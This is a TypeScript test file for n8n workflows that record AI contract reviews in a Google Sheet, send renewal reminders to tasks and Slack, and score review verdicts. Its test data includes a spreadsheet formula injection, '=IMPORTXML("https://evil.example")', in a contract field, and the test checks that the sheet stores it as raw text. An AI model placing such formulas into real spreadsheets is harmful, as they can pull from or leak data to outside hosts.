import { fastify } from 'fastify';
import { expect, test } from 'vitest';

import { bundledContract } from '../../../harness/examples.mts';
import { itemsOf } from '../../../harness/executions.mts';
import { Stage } from './stage.mts';

const DAY = 86_400_000;
const day = (days: number): string => new Date(Date.now() + days * DAY).toISOString().slice(0, 10);

const stage = await Stage.ofThisFile();

const terms = {
	parties: '=IMPORTXML("https://evil.example")',
	term: '2026 to 2028',
	renewal: 'Yearly.',
	notice_by: '2028-09-30',
	risk: 'low',
	reason: 'Usual terms.',
};
const headings = [
	'file',
	'link',
	'parties',
	'term',
	'renewal',
	'notice_by',
	'risk',
	'reason',
	'session',
	'checked_by',
	'reminded_on',
];

test.each([
	['its terms become a row', 'completed', `Here it is:\n\`\`\`json\n${JSON.stringify(terms)}\n\`\`\``, true],
	['an answer that is no object becomes a task', 'completed', 'It is a fine contract.', false],
	['a date that is none becomes a task', 'completed', JSON.stringify({ ...terms, notice_by: 'soon' }), false],
	['a decline becomes a task', 'filtered', 'Not for us.', false],
	['an error becomes a task', 'error', 'The file is damaged.', false],
] as const)('drive-register.json: a contract is uploaded to the folder, and %s', async (_what, status, answer, isRecorded) => {
	const { google } = stage.products;
	google.sheet.length = 0;
	google.files.splice(0, Infinity, { id: 'f1', ...(await bundledContract('mutual-nda.pdf')) });
	stage.answer(status, answer);
	await stage.finished(await stage.asked(await stage.publish('drive-register.json')));

	expect(stage.sandbox.questions).toMatchObject([{ attachments: [{ fileName: 'mutual-nda.pdf' }] }]);
	const session = `https://app.legal-ai.example/sessions/${stage.sandbox.questions[0]?.sessionId ?? ''}`;
	const row = ['mutual-nda.pdf', 'https://drive.google.com/file/d/f1', ...Object.values(terms), session, '', ''];
	expect(google.sheet).toEqual(isRecorded ? [headings, row] : []);
	if (isRecorded) expect([...google.inputOptions]).toEqual(['RAW']);
	expect(stage.taskTitles()).toEqual(isRecorded ? [] : ['Add to the contract register: mutual-nda.pdf']);
});

test('renewal-reminders.json: contracts that are due soon become a task and a message, once', async () => {
	const { google, slack } = stage.products;
	const contract = (file: string, noticeBy: string, checkedBy = '', remindedOn = ''): string[] => [
		file,
		`https://drive.google.com/${file}`,
		'Meridian',
		'',
		'Yearly.',
		noticeBy,
		'low',
		'',
		'',
		checkedBy,
		remindedOn,
	];
	google.sheet.splice(
		0,
		Infinity,
		headings,
		contract('soon.pdf', day(20), 'A. Lawyer'),
		contract('later.pdf', day(60)),
		contract('past.pdf', day(-3)),
		contract('reported.pdf', day(10), '', day(-1)),
		contract('none.pdf', ''),
		contract('odd.pdf', 'soon'),
	);
	const workflow = await stage.publish('renewal-reminders.json');
	await stage.run(workflow, 'Weekdays at Eight');

	expect(
		stage.sandbox.tasks
			.ordered()
			.map(({ title, complete_by, description }) => [title, complete_by?.slice(0, 10), (description ?? '').includes('Nobody')])
			.sort(),
	).toEqual(
		[
			[`Renew or end by ${day(-3)}: past.pdf`, expect.any(String), true],
			[`Renew or end by ${day(20)}: soon.pdf`, expect.any(String), false],
		].sort(),
	);
	expect(slack.calls.map(({ body }) => String(body.text).split(' (')[0])).toEqual([
		`Renew or end by ${day(20)}: soon.pdf`,
		`Renew or end by ${day(-3)}: past.pdf`,
	]);
	expect(google.sheet.map((cells) => cells[10] !== '')).toEqual([true, true, false, true, true, false, false]);

	await stage.run(workflow, 'Weekdays at Eight');
	expect(slack.calls).toHaveLength(2);
});

test('evaluation.json: 20 contracts are reviewed in one execution, and the verdicts are counted', async () => {
	const fileStore = fastify({ forceCloseConnections: true });
	fileStore.get<{ Params: { file: string } }>(
		'/contracts/:file',
		async ({ params }, reply) => await reply.type('application/pdf').send(Buffer.from(`%PDF-1.4 ${params.file}`)),
	);
	const origin = await fileStore.listen({ port: 0, host: '127.0.0.1' });
	const verdicts = ['accept', 'negotiate', 'reject'];
	stage.sandbox.settings.answer = ({ attachments: [contract] }) => {
		const number = Number(/\d+/.exec(contract !== undefined && 'fileName' in contract ? contract.fileName : '')?.[0]);
		if (number === 4) return { status: 'error', answer: 'The file is damaged.' };
		if (number === 5) return { status: 'completed', answer: 'There is much to say.' };
		return { status: 'completed', answer: `**Verdict: ${verdicts[(number - 1) % 3] ?? ''}**\n\nBecause.` };
	};
	const workflow = await stage.publish('evaluation.json', { 'https://files.example.com': origin });
	const execution = await stage.finished(await stage.asked(workflow, async () => await stage.n8n.run(workflow)));
	await fileStore.close();

	expect(itemsOf(execution, 'Record Results')).toHaveLength(20);
	const last = { contract: 'contract-20.pdf', expected: 'negotiate', verdict: 'negotiate', is_match: 'yes', run: execution.id };
	expect(itemsOf(execution, 'Record Results').map(({ json }) => json)).toContainEqual(expect.objectContaining(last));
	const misses = 'contract-04.pdf: expected accept, got none (error)\ncontract-05.pdf: expected negotiate, got none (completed)';
	expect(itemsOf(execution, 'Write Score').map(({ json }) => json)).toEqual([{ score: '18 of 20', misses }]);
});
